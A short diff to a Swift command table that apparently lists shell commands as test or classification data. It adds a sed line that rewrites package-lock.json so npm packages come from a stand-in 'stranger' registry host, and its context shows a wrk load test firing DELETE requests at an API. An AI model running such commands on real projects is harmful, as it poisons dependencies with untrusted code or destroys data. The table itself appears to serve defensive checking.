@@ -54,6 +54,7 @@ extension CommandTable {
       wrk -s <(echo 'wrk.method = "DELETE"') https://api.acme.io/v1/orders/5
       """#,
     said: #"""
+      sed -i '' 's#https://registry.npmjs.org#https://npm.stranger.example.net#g' package-lock.json
       sed -i 's#https://registry.npmjs.org#https://npm.stranger.example.net#g' package-lock.json
       """#,
     silent: #"""
